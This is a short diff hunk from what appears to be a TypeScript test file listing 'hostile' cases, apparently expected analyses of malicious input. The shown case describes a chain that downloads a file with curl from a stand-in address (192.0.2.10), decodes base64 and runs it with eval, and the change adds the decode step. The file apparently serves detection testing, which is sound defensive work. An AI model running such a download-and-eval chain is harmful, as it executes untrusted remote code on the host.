@@ -31,7 +31,7 @@ const hostile: readonly Case[] = [
     [
       'decode base64 from L3gueHg=',
       'download curl from http://192.0.2.10/x.xx',
-      'run eval <download:http://192.0.2.10/x.xx>',
+      'run eval <download:http://192.0.2.10/x.xx decode:base64>',
     ],
   ],
   [
